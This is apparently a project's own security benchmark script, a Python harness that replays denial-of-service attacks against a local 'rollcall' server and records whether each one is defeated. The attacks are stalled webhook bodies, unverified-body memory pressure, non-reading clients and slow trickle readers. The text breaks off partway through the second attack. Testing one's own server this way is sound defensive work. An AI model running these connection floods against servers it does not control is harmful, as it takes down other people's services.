#!/usr/bin/env python3
"""rollcall attack script: replays the denial-of-service findings of the
security review against any rollcall binary, and measures what the server
lets the attacker do.

    python3 benches/attack.py --binary target/release/rollcall
    python3 benches/attack.py --binary old/rollcall --only 1,4 --scale small --json before.json
    python3 benches/attack.py --compare before.json after.json    # side-by-side table

Every attack starts a fresh server (`serve --data --listen --jwks-file
--workos-webhook-secret [--stream-threshold]`, flags every version knows) on a
fresh database in a temporary folder, runs the attackers in a separate
process (asyncio over raw non-blocking sockets, so that a reconnect storm
cannot delay the probes, which run in this process), measures, and kills
everything it started. It prints one summary line per attack and a table.
A server whose memory passes --rss-cap-mb (4096) is stopped at once and
reported as "> cap". Needs Python 3.9+ (standard library only) and openssl
(to sign the RS256 tokens). `ulimit -n` (the hard limit: the soft one is
raised to it) must allow about 10,200 files, in this process and in the
server. `--set KEY=N` overrides one number of the scale (see SCALES), e.g.
`--set a1_conns=300` for a smaller stalled-body attack.

The attacks, and what "defeated" means (the verdict printed per attack):

1. Stalled webhook bodies (availability). With a webhook secret set, N
   connections (10,100: 100 more than the old connection cap) each send a
   `POST /webhooks/workos` head announcing `Content-Length: 10`, with a
   well-formed signature header (a fresh timestamp and a made-up `v1` — no
   secret needed), and never send the body. A connection the server closes
   is opened again after --reconnect-delay, so the attacker keeps trying to
   hold N. Meanwhile `/healthz` and an authenticated `GET /api/directories`
   are probed every second on new connections, each with a 10 s timeout.
   Defeated: no probe timed out and the slowest answered within 2 s.
   Also reported, outside the verdict: a genuine signed webhook sent every
   second — how many WorkOS could still deliver during the attack (a server
   that bounds the bodies it reads answers 503 while attackers hold every
   body slot).

2. Unverified body memory. Like 1, but each connection announces 1 MiB and
   sends 1 MiB - 1 bytes of it, then stalls (2,000 connections at full
   scale). Measured: the server's peak RSS (VmHWM). Defeated: under 200 MB.
   `/healthz` and a genuine signed webhook are probed as in 1.

3. Filtered lists pin memory. On a 120,000-user directory, 20 clients ask
   for `…/users?after=00000000-0000-0000-0000-000000000000` (half of them)
   and `…/users?state=active` (the other half), read the response head and
   never read the body (4 KiB receive buffers). Measured: peak RSS while they
   hold on (and the disk held by spooled bodies, when the server spools);
   then the server CPU time (utime+stime) of 50 sequential
   `HEAD …/users?state=active`. Defeated: peak RSS under 200 MB and the 50
   HEADs under 1 s of CPU.

4. One organization blocks another's full lists. Organization A (50,000
   users) opens 32 streams of its full list and reads each at ~100 KB/s;
   3 s later organization B (12,000 users, also over the 10,000-record
   stream threshold) asks for its own full list, with a 120 s timeout.
   Measured: how long B waits for its first byte and for its whole, complete
   list; how A's streams fared (200/503, cut short). Defeated: B's whole list
   within 10 s.

5. A slow reader grows the database file. A 100,000-user directory is
   imported; 32 senders send 40,000 signed `dsync.user.updated` events (each
   renames an existing user, with an increasing `updated_at`) with no reader;
   then a client starts reading the full list at ~30 KB/s and stays
   connected, and 40,000 more updates go in. Measured: the file size after
   import, after the first 40,000 and after the second. The minimum stream
   rate of newer servers is turned off (`--min-stream-rate-kib 0`, passed
   only to a binary that knows it) so the reader stays for the whole run.
   Defeated: the file grew less than 25% over the second 40,000 updates
   (that is, the reader made no difference).

`--scale small` runs the same attacks smaller (500 bodies of 1 MiB, 30,000 /
20,000 / 20,000 users, 10,000 updates per phase, thresholds lowered to
match) for a quicker look; attack 1 keeps its 10,100 connections, as fewer do
not reach the old connection cap.
"""
import argparse
import asyncio
import ctypes
import hashlib
import hmac
import http.client
import json
import multiprocessing
import os
import random
import resource
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import traceback

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from load import ROOT, rs256_token  # noqa: E402

# The dataset generator's organization and directory (examples/common/dataset.rs).
# Their rollcall ids are asked of the server (GET /api/directories): older
# versions take them from the NDJSON, newer ones derive them.
ORG_A = "org_01BENCHACME00000000000000"
DIR_A_WORKOS = "directory_01BENCH00000000000001"
# A second organization, made by rewriting the generator's ids.
ORG_B = "org_01BENCHGLBX00000000000000"
DIR_B_WORKOS = "directory_01BENCH00000000000002"
SECRET = "whsec_attack_5f0c3b9e2d8a4761b0e9c2f4a7d13e58"
NIL = "00000000-0000-0000-0000-000000000000"
MiB = 1024 * 1024

SCALES = {
    "full": dict(a1_conns=10_100, a1_hold=40, a2_conns=2_000, a2_hold=20,
                 a3_users=120_000, a3_clients=20, a3_hold=30, a3_heads=50,
                 a4_users=50_000, a4_other=12_000, a4_threshold=10_000, a4_streams=32, a4_timeout=120,
                 a5_users=100_000, a5_updates=40_000, a5_threshold=10_000),
    "small": dict(a1_conns=10_100, a1_hold=20, a2_conns=500, a2_hold=15,
                  a3_users=30_000, a3_clients=20, a3_hold=15, a3_heads=20,
                  a4_users=20_000, a4_other=6_000, a4_threshold=5_000, a4_streams=32, a4_timeout=60,
                  a5_users=20_000, a5_updates=10_000, a5_threshold=5_000),
}

# ---------------------------------------------------------------------------
# Processes: everything started is registered and killed on the way out.

STARTED = []  # Popen and multiprocessing.Process objects


def die_with_parent():
    """Runs in a child before exec: SIGKILL it if this script dies."""
    try:
        ctypes.CDLL("libc.so.6", use_errno=True).prctl(1, signal.SIGKILL)  # PR_SET_PDEATHSIG
    except Exception:
        pass


def raise_nofile():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return hard


def kill_everything():
    for p in STARTED:
        try:
            if isinstance(p, subprocess.Popen):
                if p.poll() is None:
                    p.kill()
                    p.wait(timeout=10)
            elif p.is_alive():
                p.kill()
                p.join(timeout=10)
        except Exception:
            pass


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def status_kb(pid, field):
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith(field + ":"):
                    return int(line.split()[1])
    except OSError:
        pass
    return 0


CLK_TCK = os.sysconf("SC_CLK_TCK")


def cpu_secs(pid):
    """utime + stime of a process, in seconds."""
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / CLK_TCK


def deleted_file_bytes(pid):
    """Bytes in files the process holds open that are already unlinked
    (spooled list bodies)."""
    total = 0
    try:
        for fd in os.listdir(f"/proc/{pid}/fd"):
            try:
                if os.readlink(f"/proc/{pid}/fd/{fd}").endswith("(deleted)"):
                    total += os.stat(f"/proc/{pid}/fd/{fd}").st_size
            except OSError:
                pass
    except OSError:
        pass
    return total


def loadavg():
    return "%.2f %.2f %.2f" % os.getloadavg()


class Server:
    """One `rollcall serve` on a free port, with only flags every version knows
    plus `extra`."""

    def __init__(self, binary, data, work, jwks, extra=(), name="serve"):
        self.port = free_port()
        self.log_path = os.path.join(work, f"{name}.log")
        self.log = open(self.log_path, "wb")
        self.proc = subprocess.Popen(
            [binary, "serve", "--data", data, "--listen", f"127.0.0.1:{self.port}", "--jwks-file", jwks,
             "--workos-webhook-secret", SECRET, *extra],
            stdout=self.log, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL, preexec_fn=die_with_parent)
        STARTED.append(self.proc)
        self.pid = self.proc.pid
        deadline = time.time() + 60
        while True:
            if self.proc.poll() is not None:
                raise SystemExit(f"rollcall exited at start ({self.proc.returncode}):\n{self.log_tail()}")
            try:
                c = http.client.HTTPConnection("127.0.0.1", self.port, timeout=2)
                c.request("GET", "/healthz")
                if c.getresponse().status == 200:
                    c.close()
                    break
            except OSError:
                pass
            if time.time() > deadline:
                raise SystemExit(f"rollcall not healthy within 60 s:\n{self.log_tail()}")
            time.sleep(0.05)

    def directory_id(self, token, workos_id):
        """The rollcall id of the caller's directory with this WorkOS id."""
        c = http.client.HTTPConnection("127.0.0.1", self.port, timeout=30)
        try:
            c.request("GET", "/api/directories", headers={"Authorization": f"Bearer {token}"})
            r = c.getresponse()
            body = r.read()
        finally:
            c.close()
        if r.status != 200:
            raise SystemExit(f"GET /api/directories answered {r.status}: {body[:500]!r}")
        for d in json.loads(body):
            if d.get("workos_directory_id") == workos_id:
                return d["id"]
        raise SystemExit(f"no directory {workos_id} in {body[:500]!r}")

    def log_tail(self, n=2000):
        try:
            with open(self.log_path, "rb") as f:
                return f.read()[-n:].decode(errors="replace")
        except OSError:
            return ""

    def rss_mb(self):
        return status_kb(self.pid, "VmRSS") / 1024

    def hwm_mb(self):
        return status_kb(self.pid, "VmHWM") / 1024

    def stop(self):
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(timeout=5)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait(timeout=10)
        self.log.close()


def supports(binary, flag):
    out = subprocess.run([binary, "serve", "--help"], capture_output=True, text=True, timeout=30)
    return flag in out.stdout


# ---------------------------------------------------------------------------
# Datasets: examples/dataset writes organization A; B is the same lines with
# every id rewritten.

def write_dataset(gen, n, path, other=False):
    with open(path, "w") as out:
        proc = subprocess.Popen([gen, str(n)], stdout=subprocess.PIPE, text=True, preexec_fn=die_with_parent)
        STARTED.append(proc)
        for line in proc.stdout:
            if other:
                line = (line.replace(DIR_A_WORKOS, DIR_B_WORKOS).replace(ORG_A, ORG_B)
                        .replace("01HBENCH", "01HGLOBX").replace("01900000-", "01910000-")
                        .replace("@emea.example-corporation.test", "@globex.test"))
            out.write(line)
        if proc.wait(timeout=600) != 0:
            raise SystemExit(f"{gen} {n} failed")


def import_db(binary, data, *ndjson):
    t0 = time.time()
    for path in ndjson:
        out = subprocess.run([binary, "--data", data, "import", path], capture_output=True, text=True, timeout=600)
        if out.returncode != 0:
            raise SystemExit(f"import of {path} failed:\n{out.stderr[-2000:]}")
    return time.time() - t0


# ---------------------------------------------------------------------------
# The attacker process: one asyncio loop over raw non-blocking sockets,
# counting into a shared array; stopped by an event, killed if it lingers.

class S:
    """Indices of the shared counters."""
    OPEN, MAX_OPEN, CONNECTS, CONNECT_FAIL, SENT, EOF, RESET, HEADS = range(8)
    S200, S401, S408, S413, S503, S_OTHER = range(8, 14)
    BYTES, APPLIED, OTHER_OUTCOME, FAILED, DONE, CUT, CPU, DRAIN, UNFINISHED, FINISHED = range(14, 24)
    SIZE = 24


STATUS_INDEX = {200: S.S200, 401: S.S401, 408: S.S408, 413: S.S413, 503: S.S503}


def count_status(stats, status):
    stats[STATUS_INDEX.get(status, S.S_OTHER)] += 1


def opened(stats):
    stats[S.OPEN] += 1
    stats[S.CONNECTS] += 1
    stats[S.MAX_OPEN] = max(stats[S.MAX_OPEN], stats[S.OPEN])


def parse_status(buf):
    if buf[:7] == b"HTTP/1." and len(buf) >= 12:
        try:
            return int(buf[9:12])
        except ValueError:
            return None
    return None


async def connect(port, rcvbuf=None, timeout=10.0):
    loop = asyncio.get_running_loop()
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(False)
    if rcvbuf:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    try:
        await asyncio.wait_for(loop.sock_connect(s, ("127.0.0.1", port)), timeout)
    except BaseException:
        s.close()
        raise
    return s


async def read_head(s, timeout=None, chunk=4096):
    """Reads up to the end of a response head; returns (status, bytes read)
    or (None, bytes) at end of stream. `timeout` bounds the whole read."""
    loop = asyncio.get_running_loop()
    deadline = None if timeout is None else loop.time() + timeout
    buf = b""
    while b"\r\n\r\n" not in buf and len(buf) < 65536:
        recv = loop.sock_recv(s, chunk)
        data = await (recv if deadline is None else asyncio.wait_for(recv, max(0.01, deadline - loop.time())))
        if not data:
            return None, buf
        buf += data
    return parse_status(buf), buf


def webhook_head(announced):
    """A webhook head that passes every check needing no body: a fresh
    timestamp, a well-formed (made-up) signature."""
    return (f"POST /webhooks/workos HTTP/1.1\r\nHost: rollcall\r\nContent-Type: application/json\r\n"
            f"WorkOS-Signature: t={int(time.time() * 1000)}, v1={'ab' * 32}\r\n"
            f"Content-Length: {announced}\r\n\r\n").encode()


def get_request(path, token, method="GET", close=False):
    return (f"{method} {path} HTTP/1.1\r\nHost: rollcall\r\nAuthorization: Bearer {token}\r\n"
            + ("Connection: close\r\n" if close else "") + "\r\n").encode()


async def stalled_webhooks(stats, port, conns, announced, sent, reconnect_delay, parallel):
    """Attacks 1 and 2: `conns` connections each announcing `announced` bytes,
    sending `sent` of them and stalling; reopened when the server closes."""
    loop = asyncio.get_running_loop()
    gate = asyncio.Semaphore(parallel)
    payload = memoryview(b" " * sent) if sent else None

    async def one(i):
        await asyncio.sleep(random.random() * 0.5)
        while True:
            s, reader = None, None
            try:
                async with gate:
                    try:
                        s = await connect(port, timeout=10)
                    except (OSError, asyncio.TimeoutError):
                        stats[S.CONNECT_FAIL] += 1
                        s = None
                    if s is not None:
                        opened(stats)
                        await asyncio.wait_for(loop.sock_sendall(s, webhook_head(announced)), 10)
                if s is not None:
                    # Read the answer while sending: a server refusing at once
                    # answers before it resets the unread rest.
                    reader = asyncio.ensure_future(read_head(s))
                    if payload is not None:
                        try:
                            await asyncio.wait_for(loop.sock_sendall(s, payload), 120)
                        except (OSError, asyncio.TimeoutError):
                            pass
                    stats[S.SENT] += 1
                    status, _ = await reader
                    if status is None:
                        stats[S.EOF] += 1
                    else:
                        count_status(stats, status)
            except asyncio.CancelledError:
                raise
            except (OSError, asyncio.TimeoutError):
                stats[S.RESET] += 1
            finally:
                if reader is not None and not reader.done():
                    reader.cancel()
                if s is not None:
                    s.close()
                    stats[S.OPEN] -= 1
            await asyncio.sleep(reconnect_delay)

    await asyncio.gather(*(one(i) for i in range(conns)))


async def non_reading_clients(stats, port, paths, token):
    """Attack 3: ask, read the head, never read the body; hold until stopped."""
    held = []

    async def one(path):
        s = await connect(port, rcvbuf=4096, timeout=30)
        held.append(s)
        opened(stats)
        await asyncio.get_running_loop().sock_sendall(s, get_request(path, token))
        status, _ = await read_head(s, timeout=300, chunk=1024)
        stats[S.HEADS] += 1
        if status is None:
            stats[S.EOF] += 1
        else:
            count_status(stats, status)

    try:
        results = await asyncio.gather(*(one(p) for p in paths), return_exceptions=True)
        stats[S.FAILED] += sum(1 for r in results if isinstance(r, BaseException))
        await asyncio.sleep(1e9)
    finally:
        for s in held:
            s.close()


async def trickle_readers(stats, port, n, path, token, rate, rcvbuf):
    """Attacks 4 and 5: `n` full-list streams, each read at ~`rate` bytes/s
    until this process's parent sets `stats[S.DRAIN]`; then each reads as
    fast as it can, for at most 30 s, to see whether its stream was cut."""
    loop = asyncio.get_running_loop()

    async def one(i):
        await asyncio.sleep(i * 0.02)
        s = await connect(port, rcvbuf=rcvbuf, timeout=30)
        try:
            opened(stats)
            await loop.sock_sendall(s, get_request(path, token))
            status, buf = await read_head(s, timeout=300, chunk=1024)
            stats[S.HEADS] += 1
            if status is None:
                stats[S.EOF] += 1
                return
            count_status(stats, status)
            if status != 200:
                return
            head, _, first = buf.partition(b"\r\n\r\n")
            length, chunked = None, False
            for line in head.lower().split(b"\r\n")[1:]:
                name, _, value = line.partition(b":")
                if name.strip() == b"content-length":
                    length = int(value)
                elif name.strip() == b"transfer-encoding" and b"chunked" in value:
                    chunked = True
            got, tail = len(first), first[-5:]
            stats[S.BYTES] += got
            start = loop.time()
            drain_until = None
            while True:
                if stats[S.DRAIN] and drain_until is None:
                    drain_until = loop.time() + 30
                if drain_until is None:
                    # A token bucket: never more than `rate` bytes/s on average.
                    want = int(rate * (loop.time() - start)) - got
                    if want <= 0:
                        await asyncio.sleep(0.1)
                        continue
                    want, limit = min(want, 65536), 120
                else:
                    want, limit = 1 << 20, drain_until - loop.time()
                    if limit <= 0:
                        stats[S.UNFINISHED] += 1
                        return
                try:
                    data = await asyncio.wait_for(loop.sock_recv(s, want), limit)
                except asyncio.TimeoutError:
                    stats[S.UNFINISHED if drain_until else S.CUT] += 1
                    return
                except OSError:
                    stats[S.CUT] += 1
                    return
                if not data:
                    whole = got == length if length is not None else chunked and tail.endswith(b"0\r\n\r\n")
                    stats[S.DONE if whole else S.CUT] += 1
                    return
                got += len(data)
                tail = (tail + data)[-5:]
                stats[S.BYTES] += len(data)
                if length is not None and got >= length:
                    stats[S.DONE] += 1
                    return
                if drain_until is None:
                    await asyncio.sleep(0.1)
        finally:
            s.close()
            stats[S.OPEN] -= 1
            stats[S.FINISHED] += 1

    results = await asyncio.gather(*(one(i) for i in range(n)), return_exceptions=True)
    stats[S.FAILED] += sum(1 for r in results if isinstance(r, BaseException))
    await asyncio.sleep(1e9)


def iso_ms(ms):
    t = time.gmtime(ms // 1000)
    return time.strftime("%Y-%m-%dT%H:%M:%S", t) + ".%03dZ" % (ms % 1000)


async def signed_updates(stats, port, ndjson, first, count, senders, run_tag):
    """Attack 5: events first..first+count, each a `dsync.user.updated`
    renaming a distinct existing user with an increasing `updated_at`."""
    loop = asyncio.get_running_loop()
    with open(ndjson) as f:
        users = [line for line in f if line.startswith('{"object":"directory_user"')]
    n = len(users)
    stride = 7919
    while n % stride == 0 or stride % n == 0:
        stride += 2
    base_ms = 1_780_272_000_000  # 2026-06-01T00:00:00Z, later than every imported updated_at
    key = SECRET.encode()
    todo = iter(range(first, first + count))

    def event(k):
        u = json.loads(users[(k * stride) % n])
        u.pop("rollcall", None)
        at = iso_ms(base_ms + k)
        u["first_name"] = f"Renamed {k}"
        u["updated_at"] = at
        return json.dumps({"object": "event", "id": f"event_01ATTACK{run_tag}{k:012d}", "event": "dsync.user.updated",
                           "created_at": at, "data": u}, separators=(",", ":")).encode()

    async def response(s, buf):
        while b"\r\n\r\n" not in buf:
            data = await asyncio.wait_for(loop.sock_recv(s, 65536), 60)
            if not data:
                raise ConnectionError("closed")
            buf += data
        head, _, rest = buf.partition(b"\r\n\r\n")
        length = 0
        for line in head.split(b"\r\n")[1:]:
            name, _, value = line.partition(b":")
            if name.strip().lower() == b"content-length":
                length = int(value)
        while len(rest) < length:
            data = await asyncio.wait_for(loop.sock_recv(s, 65536), 60)
            if not data:
                raise ConnectionError("closed")
            rest += data
        return parse_status(head), rest[:length], rest[length:]

    async def sender():
        s = None
        for k in todo:
            body = event(k)
            for attempt in range(3):
                try:
                    if s is None:
                        s = await connect(port, timeout=10)
                        opened(stats)
                    t = int(time.time() * 1000)
                    sig = hmac.new(key, f"{t}.".encode() + body, hashlib.sha256).hexdigest()
                    req = (f"POST /webhooks/workos HTTP/1.1\r\nHost: rollcall\r\nContent-Type: application/json\r\n"
                           f"WorkOS-Signature: t={t}, v1={sig}\r\nContent-Length: {len(body)}\r\n\r\n").encode() + body
                    await asyncio.wait_for(loop.sock_sendall(s, req), 60)
                    status, answer, _ = await response(s, b"")
                    count_status(stats, status)
                    if status == 200 and b'"outcome":"applied"' in answer:
                        stats[S.APPLIED] += 1
                    elif status == 200:
                        stats[S.OTHER_OUTCOME] += 1
                    stats[S.DONE] += 1
                    break
                except (OSError, asyncio.TimeoutError, ConnectionError, ValueError):
                    stats[S.RESET] += 1
                    if s is not None:
                        s.close()
                        stats[S.OPEN] -= 1
                        s = None
            else:
                stats[S.FAILED] += 1
        if s is not None:
            s.close()
            stats[S.OPEN] -= 1

    await asyncio.gather(*(sender() for _ in range(senders)))


ATTACKERS = {f.__name__: f for f in (stalled_webhooks, non_reading_clients, trickle_readers, signed_updates)}


def _child(name, args, stats, stop):
    die_with_parent()
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    raise_nofile()

    async def main():
        task = asyncio.ensure_future(ATTACKERS[name](stats, *args))
        while not task.done() and not stop.is_set():
            await asyncio.sleep(0.1)
        if task.done():
            if task.exception() is not None:
                print(f"attacker {name} failed: {task.exception()!r}", file=sys.stderr)
        else:
            task.cancel()
            try:
                await asyncio.wait_for(task, 5)
            except BaseException:
                pass
        t = os.times()
        stats[S.CPU] = t.user + t.system

    asyncio.run(main())


class Attackers:
    """The attacker process."""

    def __init__(self, name, *args):
        ctx = multiprocessing.get_context("spawn")
        self.stats = ctx.Array("d", S.SIZE, lock=False)
        self.stop_event = ctx.Event()
        self.proc = ctx.Process(target=_child, args=(name, args, self.stats, self.stop_event), daemon=True)
        self.proc.start()
        STARTED.append(self.proc)

    def __getitem__(self, i):
        return int(self.stats[i])

    def alive(self):
        return self.proc.is_alive()

    def stop(self):
        """Stops the attack and closes every attacker connection; returns the
        attacker process's CPU seconds."""
        self.stop_event.set()
        self.proc.join(timeout=10)
        if self.proc.is_alive():
            self.proc.kill()
            self.proc.join(timeout=10)
        return self.stats[S.CPU]

    def wait_for(self, index, value, timeout):
        deadline = time.time() + timeout
        while time.time() < deadline and self[index] < value and self.alive():
            time.sleep(0.1)
        return self[index] >= value


# ---------------------------------------------------------------------------
# Measuring from this process.

class Monitor(threading.Thread):
    """Samples the server's memory (and spooled bytes) every 0.2 s; stops the
    attackers once RSS passes the cap."""

    def __init__(self, server, cap_mb, on_cap, spool=False):
        super().__init__(daemon=True)
        self.server, self.cap_mb, self.on_cap, self.spool = server, cap_mb, on_cap, spool
        self.peak_rss = self.peak_hwm = 0.0
        self.peak_spool = 0
        self.capped = False
        self.done = threading.Event()

    def run(self):
        while not self.done.is_set():
            rss = self.server.rss_mb()
            self.peak_rss = max(self.peak_rss, rss)
            self.peak_hwm = max(self.peak_hwm, self.server.hwm_mb())
            if self.spool:
                self.peak_spool = max(self.peak_spool, deleted_file_bytes(self.server.pid))
            if rss > self.cap_mb and not self.capped:
                self.capped = True
                self.on_cap()
            self.done.wait(0.2)

    def finish(self):
        self.done.set()
        self.join(timeout=5)
        self.peak_hwm = max(self.peak_hwm, self.server.hwm_mb())
        return self.peak_hwm

    def peak_text(self):
        return f"> {self.cap_mb:,.0f} MB (stopped at the cap)" if self.capped else f"{self.peak_hwm:,.0f} MB"


class Prober(threading.Thread):
    """GETs `path` on a new connection every `interval` seconds, each with a
    `timeout`; records (latency, status or error)."""

    def __init__(self, port, path, token=None, interval=1.0, timeout=10.0):
        super().__init__(daemon=True)
        self.port, self.path, self.token, self.interval, self.timeout = port, path, token, interval, timeout
        self.results = []
        self.done = threading.Event()

    def request(self):
        """(method, path, body, headers) of the next probe."""
        return "GET", self.path, None, {"Authorization": f"Bearer {self.token}"} if self.token else {}

    def run(self):
        while not self.done.is_set():
            t0 = time.monotonic()
            outcome = None
            try:
                method, path, body, headers = self.request()
                c = http.client.HTTPConnection("127.0.0.1", self.port, timeout=self.timeout)
                try:
                    c.request(method, path, body=body, headers=headers)
                    r = c.getresponse()
                    r.read()
                    outcome = r.status
                finally:
                    c.close()
            except socket.timeout:
                outcome = "timeout"
            except (OSError, http.client.HTTPException) as e:
                outcome = type(e).__name__
            took = time.monotonic() - t0
            if outcome != "timeout" and took > self.timeout:
                outcome = "timeout"  # answered, but past the timeout
            self.results.append((took, outcome))
            self.done.wait(max(0.0, self.interval - took))

    def finish(self):
        self.done.set()
        self.join(timeout=self.timeout * 2 + 5)

    def summary(self):
        n = len(self.results)
        timeouts = sum(1 for _, o in self.results if o == "timeout")
        bad = sum(1 for _, o in self.results if o not in (200, "timeout"))
        worst = max((t for t, _ in self.results), default=0.0)
        lat = sorted(t for t, o in self.results if o == 200)
        median = lat[len(lat) // 2] if lat else None
        codes = {}
        for _, o in self.results:
            codes[o] = codes.get(o, 0) + 1
        return dict(probes=n, timeouts=timeouts, errors=bad, max_s=worst, median_s=median, ok=len(lat),
                    codes=", ".join(f"{v} x {k}" for k, v in sorted(codes.items(), key=lambda kv: -kv[1])))


class WebhookProber(Prober):
    """POSTs a genuine signed `dsync.user.updated` (a dataset user renamed,
    with an increasing `updated_at`) every `interval` seconds: can WorkOS
    still deliver?"""

    def __init__(self, port, ndjson, **kw):
        super().__init__(port, "/webhooks/workos", **kw)
        with open(ndjson) as f:
            self.users = [line for line in f if line.startswith('{"object":"directory_user"')]
        self.k = 0

    def request(self):
        self.k += 1
        u = json.loads(self.users[self.k % len(self.users)])
        u.pop("rollcall", None)
        at = iso_ms(1_798_761_600_000 + self.k)  # 2027-01-01 + k ms
        u["first_name"], u["updated_at"] = f"Probe {self.k}", at
        body = json.dumps({"object": "event", "id": f"event_01PROBE{os.getpid()}{self.k:010d}{random.randrange(10 ** 6)}",
                           "event": "dsync.user.updated", "created_at": at, "data": u}).encode()
        t = int(time.time() * 1000)
        sig = hmac.new(SECRET.encode(), f"{t}.".encode() + body, hashlib.sha256).hexdigest()
        return "POST", self.path, body, {"Content-Type": "application/json", "WorkOS-Signature": f"t={t}, v1={sig}"}


def fetch_whole(port, path, token, timeout):
    """GETs `path` with `Connection: close` and reads it to the end within
    `timeout`; returns (first byte s, total s, status, body bytes) — None
    where it did not happen in time."""
    t0 = time.monotonic()
    ttfb = status = None
    buf = bytearray()
    s = socket.create_connection(("127.0.0.1", port), timeout=timeout)
    try:
        s.sendall(get_request(path, token, close=True))
        while True:
            left = timeout - (time.monotonic() - t0)
            if left <= 0:
                return ttfb, None, status, None
            s.settimeout(left)
            try:
                data = s.recv(1 << 20)
            except socket.timeout:
                return ttfb, None, status, None
            if not data:
                break
            if ttfb is None:
                ttfb = time.monotonic() - t0
            buf += data
            if status is None and len(buf) >= 12:
                status = parse_status(bytes(buf[:12]))
    finally:
        s.close()
    total = time.monotonic() - t0
    head, _, body = bytes(buf).partition(b"\r\n\r\n")
    if b"transfer-encoding: chunked" in head.lower():
        body = dechunk(body)
    return ttfb, total, status, body


def dechunk(data):
    out, i = bytearray(), 0
    while True:
        j = data.find(b"\r\n", i)
        if j < 0:
            return None
        size = int(data[i:j].split(b";")[0], 16)
        if size == 0:
            return bytes(out)
        out += data[j + 2:j + 2 + size]
        i = j + 2 + size + 2


def list_length(body):
    try:
        return len(json.loads(body))
    except (TypeError, ValueError):
        return None


def secs(x):
    return "n/a" if x is None else f"{x:.2f} s"


# ---------------------------------------------------------------------------
# The attacks. Each returns {"name", "metrics": [[label, value], …],
# "defeated": bool, "load": …}.

class Ctx:
    def __init__(self, args, work):
        self.args, self.work = args, work
        self.scale = SCALES[args.scale]
        self.binary = args.binary
        self.gen = args.dataset_binary
        self.jwks = os.path.join(work, "jwks.json")
        shutil.copyfile(os.path.join(ROOT, "tests", "fixtures", "jwks.json"), self.jwks)
        key = os.path.join(ROOT, "tests", "fixtures", "rsa_private.pem")
        self.token_a = rs256_token(key, ORG_A)
        self.token_b = rs256_token(key, ORG_B)
        self.min_rate_flag = supports(self.binary, "--min-stream-rate-kib")
        self.n = 0

    def fresh(self, name):
        """A fresh folder for one attack's database."""
        self.n += 1
        d = os.path.join(self.work, f"{self.n}-{name}")
        os.makedirs(d)
        return d

    def dataset(self, d, users, other=0):
        a = os.path.join(d, "a.ndjson")
        write_dataset(self.gen, users, a)
        files = [a]
        if other:
            b = os.path.join(d, "b.ndjson")
            write_dataset(self.gen, other, b, other=True)
            files.append(b)
        data = os.path.join(d, "rollcall.redb")
        took = import_db(self.binary, data, *files)
        return data, files, took


def attack_stalled_bodies(ctx):
    sc, args = ctx.scale, ctx.args
    d = ctx.fresh("stalled")
    data, files, _ = ctx.dataset(d, 10)
    server = Server(ctx.binary, data, d, ctx.jwks)
    load0 = loadavg()
    conns = sc["a1_conns"]
    attackers = Attackers("stalled_webhooks", server.port, conns, 10, 0, args.reconnect_delay, 256)
    monitor = Monitor(server, args.rss_cap_mb, attackers.stop)
    monitor.start()
    # Every attacker connected once (and sent its head), then the probes
    # run for the hold.
    t0 = time.time()
    reached = attackers.wait_for(S.CONNECTS, conns, 60)
    time.sleep(1)
    ramp = time.time() - t0
    probes = [Prober(server.port, "/healthz"), Prober(server.port, "/api/directories", ctx.token_a),
              WebhookProber(server.port, files[0])]
    for p in probes:
        p.start()
    time.sleep(sc["a1_hold"])
    open_now = attackers[S.OPEN]
    for p in probes:
        p.finish()
    cpu = attackers.stop()
    monitor.finish()
    h, r, w = (p.summary() for p in probes)
    server.stop()
    a = attackers
    verdict = h["timeouts"] == 0 and r["timeouts"] == 0 and max(h["max_s"], r["max_s"]) < 2.0 \
        and h["errors"] == 0 and r["errors"] == 0
    probe = lambda s: (f"max {s['max_s']:.2f} s, median of answered "
                       + ("n/a" if s["median_s"] is None else f"{s['median_s']:.3f} s") + ", "
                       f"{s['timeouts']} of {s['probes']} timed out (10 s), {s['errors']} errors")
    return dict(name="stalled webhook bodies", defeated=verdict, load=[load0, loadavg()], metrics=[
        ["attacker connections open (at end / most at once)", f"{open_now:,} / {a[S.MAX_OPEN]:,} of {conns:,}"
         + ("" if reached else f" (only {attackers[S.CONNECTS]:,} connected within 60 s)")],
        ["attacker connects / answers 503 / 408 / 401 / closed without answer",
         f"{a[S.CONNECTS]:,} / {a[S.S503]:,} / {a[S.S408]:,} / {a[S.S401]:,} / {a[S.EOF] + a[S.RESET]:,}"],
        ["/healthz under attack", probe(h)],
        ["GET /api/directories under attack", probe(r)],
        ["a genuine signed webhook every second (not part of the verdict)", f"{w['ok']} of {w['probes']} accepted ({w['codes']})"],
        ["server peak RSS", monitor.peak_text()],
        ["ramp (every attacker connected) + hold with probes; attacker CPU",
         f"{ramp:.0f} s + {sc['a1_hold']} s; {cpu:.1f} s CPU"],
    ])


def attack_body_memory(ctx):
    sc, args = ctx.scale, ctx.args
    d = ctx.fresh("bodies")
    data, files, _ = ctx.dataset(d, 10)
    server = Server(ctx.binary, data, d, ctx.jwks)
    load0 = loadavg()
    idle = server.rss_mb()
    conns = sc["a2_conns"]
    attackers = Attackers("stalled_webhooks", server.port, conns, MiB, MiB - 1, args.reconnect_delay, 64)
    monitor = Monitor(server, args.rss_cap_mb, attackers.stop)
    monitor.start()
    t0 = time.time()
    attackers.wait_for(S.SENT, conns, 120)
    sent_in = time.time() - t0
    probes = [Prober(server.port, "/healthz"), WebhookProber(server.port, files[0])]
    for p in probes:
        p.start()
    deadline = time.time() + sc["a2_hold"]
    while time.time() < deadline and not monitor.capped:
        time.sleep(0.2)
    a = attackers
